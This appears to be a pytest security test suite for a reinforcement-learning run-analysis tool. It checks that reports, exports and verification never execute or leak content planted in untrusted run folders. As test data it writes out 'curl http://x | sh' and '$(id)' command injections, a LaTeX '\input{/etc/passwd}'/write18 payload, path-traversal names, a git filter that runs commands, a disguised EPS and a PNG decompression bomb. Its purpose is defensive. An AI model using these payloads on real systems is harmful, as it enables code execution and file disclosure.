"""What a folder can say to commands that only look at it: names, pictures, films, claims, sources.

Each was open once: the report drew pictures of variants that a table names, PIL chose among all
formats it knows, git started what a repository's settings name.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from PIL import EpsImagePlugin, Image

from reprl import claims
from reprl.analysis import thumbnails
from reprl.analysis.claims import find_claims
from reprl.analysis.explorer.embed import _film
from reprl.analysis.gallery import embed
from reprl.analysis.load import Run
from reprl.analysis.training_commands import training
from reprl.cli import main
from reprl.runs import code
from tests.attacks.folders import EVIL, LAUGHS, change, change_config

GOLDEN = Path(__file__).parents[1] / "golden" / "v0_2_0" / "runs" / "ppo_plain_s0"
GAME = "\nfrom reprl.envs.games import Game\nGAME = Game(cartridge='breakout')\n"


@pytest.fixture
def played(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A finished run with games that somebody else played."""
    monkeypatch.chdir(tmp_path)
    return Path(shutil.copytree(GOLDEN, tmp_path / "runs" / "x"))


# -- names in tables -------------------------------------------------------------------------------


@pytest.mark.parametrize("door", ["variant", "game", "code"])
def test_a_module_that_the_user_could_import_is_not(
    door: str, played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is installed, and even named by the user: looking still imports nothing."""
    marker, site = tmp_path / "marker", tmp_path / "site"
    site.mkdir()
    (site / "evil_report.py").write_text(EVIL.format(marker=str(marker)) + GAME)
    monkeypatch.setattr(sys, "path", [*sys.path, str(site)])
    monkeypatch.setenv("PYTHONPATH", str(site))
    if door == "variant":
        file = played / "evaluation" / "episodes.csv"
        games = pd.read_csv(file)
        games["variant"] = games["variant"].replace({"green_lines": "evil_report:Look"})
        assert "evil_report:Look" in set(games["variant"])
        games.to_csv(file, index=False)
    elif door == "game":
        change_config(played, lambda c: c["env"].update(game="evil_report:GAME"))
    else:
        code = {"modules": {"evil_report": "0", "evil_report.x": "0"}}
        change(played / "run.json", lambda record: record.update(code=code))
    thumbnails._picture.cache_clear()
    where = str(played)
    for command in (
        ["report", where, "figures=false", "out=page"],
        ["runs", str(played.parent)],
        ["runs", where, "export=copy"],
        ["verify", where],
        ["diff", where, str(GOLDEN)],
    ):
        assert main(command) in (0, 1)
    assert not marker.exists()
    assert (tmp_path / "page" / "report.html").exists()


def test_thousands_of_names_are_not_thousands_of_emulators(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[str] = []
    monkeypatch.setattr(thumbnails, "_picture", lambda variant, game: asked.append(variant) or "")
    thumbnails.thumbnails([f"v{i}" for i in range(5000)])
    assert len(asked) == thumbnails.MOST


@pytest.mark.parametrize(
    "command",
    [
        "curl http://x | sh",
        "reprl train; curl http://x | sh",
        ["sh", "-c", "curl http://x | sh"],
        ["reprl", "resume", "x"],
        {"a": 1},
        "reprl train 'open",
    ],
)
def test_a_report_offers_no_command_but_ours(command: Any, tmp_path: Path) -> None:
    """People copy them into a shell."""
    warnings: list[str] = []
    run = Run("x", tmp_path, "m", 0, record={"command": command})
    assert training([run], warnings) == []
    assert len(warnings) == 1
    mixed = ["reprl", "train", "seed=0; curl http://x | sh", "$(id)"]
    (line,) = training([Run("x", tmp_path, "m", 0, record={"command": mixed})], warnings)
    assert line == "reprl train 'seed=0; curl http://x | sh' '$(id)'"


@pytest.mark.parametrize(
    "jobs", [{"a": 1}, {"a": {"overrides": 5}}, {"a": {"overrides": ["x"]}, "b": []}, [1], "x"]
)
def test_a_ledger_of_another_shape_stops_no_report(jobs: Any, tmp_path: Path) -> None:
    command = ["reprl", "train", "seed=0", "--sweep-name=s"]
    (tmp_path / "ledger.json").write_text(json.dumps({"jobs": jobs}))
    run = Run("x", tmp_path / "x", "m", 0, record={"command": command})
    assert training([run], []) == ["reprl train seed=0"]


def test_latex_prints_names_and_obeys_none(played: Path, tmp_path: Path) -> None:
    evil = "\\input{/etc/passwd}^^5cwrite18{id}\r%\x1b[2J$"
    change(played / "run.json", lambda record: record.update(method=evil))
    assert main(["report", "runs", "figures=false", "out=page"]) == 0
    text = "".join(p.read_text() for p in (tmp_path / "page" / "tables").glob("*.tex"))
    assert "textbackslash{}input\\{" in text
    assert "\\input" not in text
    assert "^^" not in text
    assert "\x1b" not in text
    assert "\r" not in text


# -- claims.yaml -----------------------------------------------------------------------------------


def laughing(file: Path, outside: Path) -> None:
    file.write_text(f"{LAUGHS}claims: [*i]\n")


def linked(file: Path, outside: Path) -> None:
    outside.write_text("claims: [{method: secret, baseline: other}]\n")
    os.symlink(outside, file)


def huge(file: Path, outside: Path) -> None:
    file.touch()
    os.truncate(file, 1 << 42)


@pytest.mark.parametrize("craft", [laughing, linked, huge])
def test_claims_are_read_like_any_file_of_a_stranger(
    craft: Callable[[Path, Path], None], tmp_path: Path
) -> None:
    place, warnings = tmp_path / "runs", list[str]()
    place.mkdir()
    craft(place / claims.FILE, tmp_path / "outside")
    assert find_claims([place], warnings) == []
    assert len(warnings) == 1
    assert claims.FILE in warnings[0]
    assert len(warnings[0]) < 500
    assert "secret" not in warnings[0]


# -- pictures and films ----------------------------------------------------------------------------


def png(width: int, height: int) -> bytes:
    """A black picture of any size in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    machine = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    data = b"".join(machine.compress(row) for _ in range(height)) + machine.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def test_a_picture_is_a_png_whatever_pil_could_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostScript under that name would go to Ghostscript, and PIL would start it."""
    file, warnings = tmp_path / "original.png", list[str]()
    Image.new("RGB", (8, 8)).save(file, "EPS")
    called: list[object] = []
    monkeypatch.setattr(EpsImagePlugin, "Ghostscript", lambda *_: called.append(1))
    assert embed(file, "x", warnings) is None
    assert not called
    assert warnings == ["x: original.png is no readable picture."]
    Image.new("RGB", (8, 8)).save(file, "PNG")
    assert str(embed(file, "x", warnings)).startswith("data:image/png;base64,")


def test_a_picture_of_a_few_bytes_does_not_take_the_memory(tmp_path: Path) -> None:
    file, warnings = tmp_path / "original.png", list[str]()
    file.write_bytes(png(9000, 9000))
    assert file.stat().st_size < 100_000
    assert embed(file, "x", warnings) is None
    assert len(warnings) == 1


FILM = {
    "version": 1,
    "chosen": [0, 0],
    "size": [8, 8],
    "columns": 2,
    "actions": ["NOOP"],
    "grid": None,
    "step": 5,
    "view": "mask",
    "scores": [0, 0],
    "games": [0, 0],
    "pictures": [
        {
            "variant": "original",
            "frames": "a.webp",
            "probs": [[1.0], [1.0]],
            "values": [0, 0],
            "change": [0, 0],
        }
    ],
}


@pytest.mark.parametrize(
    "edit",
    [
        {"columns": 0},
        {"step": float("inf")},
        {"size": [8, 1e400]},
        {"pictures": [{**FILM["pictures"][0], "frames": "../../config.yaml"}]},  # type: ignore[index]
        {"pictures": [{**FILM["pictures"][0], "frames": ".."}]},  # type: ignore[index]
        {"columns": 16383, "size": [16383, 1], "chosen": [0] * 16383},
        {"chosen": 7},
        {"belief": {"object": "ball", "pictures": [[1, 2, 3]]}},
        None,
    ],
)
def test_a_film_costs_only_itself(edit: dict[str, Any] | None, tmp_path: Path) -> None:
    place, warnings = tmp_path / "evaluation" / "film", list[str]()
    place.mkdir(parents=True)
    Image.new("RGB", (16, 8)).save(place / "a.webp", "WEBP")
    run = Run("x", tmp_path, "m", 0)
    (place / "film.json").write_text(json.dumps(FILM))
    assert _film(run, warnings)
    assert warnings == []
    text = "[" * 100_000 if edit is None else json.dumps({**FILM, **edit})
    (place / "film.json").write_text(text)
    assert _film(run, warnings) is None
    assert len(warnings) == 1
    assert "its recorded game cannot be shown" in warnings[0]


# -- sources and repositories ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["os./{run}/evil", "os..", "", ".", "os./etc/passwd", "a b"])
def test_a_hash_is_of_a_module_and_of_no_path(
    name: str, played: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """run.json names modules; what is hashed for it must not be any file it likes."""
    (played / "evil.py").touch()
    os.truncate(played / "evil.py", 1 << 42)
    module = name.format(run=played)
    change(played / "run.json", lambda r: r.update(code={"modules": {module: "0"}}))
    assert main(["verify", str(played)]) == 1  # this run has lost a checkpoint, as it says
    assert "not found here" in capsys.readouterr().out


def test_a_source_that_no_parser_takes_is_hashed_all_the_same(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "deep_of_looking.py").write_text("x = " + "-" * 100_000 + "1\n")
    monkeypatch.setattr(sys, "path", [*sys.path, str(tmp_path)])
    assert code._hash("deep_of_looking")


def git(folder: Path, *words: str) -> None:
    who = ("-c", "user.name=x", "-c", "user.email=x@y")
    subprocess.run(["git", *who, "-C", str(folder), *words], check=True, capture_output=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="there is no git")
@pytest.mark.parametrize("setting", ["filter.x.clean", "core.fsmonitor", "filter.x.process"])
def test_git_starts_nothing_that_a_repository_names(setting: str, tmp_path: Path) -> None:
    """A folder that was sent with its .git: `git status` runs the filters it is told to."""
    place, marker = tmp_path / "repository", tmp_path / "marker"
    place.mkdir()
    git(place, "init")
    (place / ".gitattributes").write_text("*.py filter=x\n")
    (place / "a.py").write_text("1\n")
    git(place, "add", ".")
    git(place, "commit", "-m", "x")
    found = code.git_of(place)
    assert found is not None
    assert found["dirty"] is False
    git(place, "config", setting, f"touch {marker}; cat")
    (place / "a.py").write_text("2\n")  # of the same size: git has to read it
    os.utime(place / "a.py", (1e9, 1e9))
    found = code.git_of(place)
    assert not marker.exists()
    assert found is not None
    assert found["dirty"] is (True if setting == "core.fsmonitor" else None)
    subprocess.run(["git", "-C", str(place), "status"], capture_output=True, check=False)
    assert marker.exists()  # so the attack is one


# -- export ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["run.json", "config.yaml", "metrics.csv", "evaluation"])
def test_an_export_is_not_written_through_a_link(
    name: str, played: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What lies in the target may be a stranger's as well: a repository that was cloned."""
    outside, copy = tmp_path / "outside", tmp_path / "copy" / "x"
    copy.mkdir(parents=True)
    if name == "evaluation":
        outside.mkdir()
    else:
        outside.write_text("mine")
    os.symlink(outside, copy / name)
    assert main(["runs", "runs", "export=copy"]) == 2
    assert "link out of the folder" in capsys.readouterr().err
    assert list(outside.iterdir()) == [] if outside.is_dir() else outside.read_text() == "mine"


@pytest.mark.parametrize(
    "name", ["evaluation/film/a.webp", "attention/a.png", "metrics.csv", "claims.yaml"]
)
def test_an_export_carries_nothing_from_outside(name: str, played: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("secret")
    (played / name).parent.mkdir(exist_ok=True)
    (played / name).unlink(missing_ok=True)
    os.symlink(tmp_path / "outside", played / name)
    main(["runs", "runs", "export=copy"])
    copied = [p for p in (tmp_path / "copy").rglob("*") if p.is_file()]
    assert not [p for p in copied if b"secret" in p.read_bytes()]
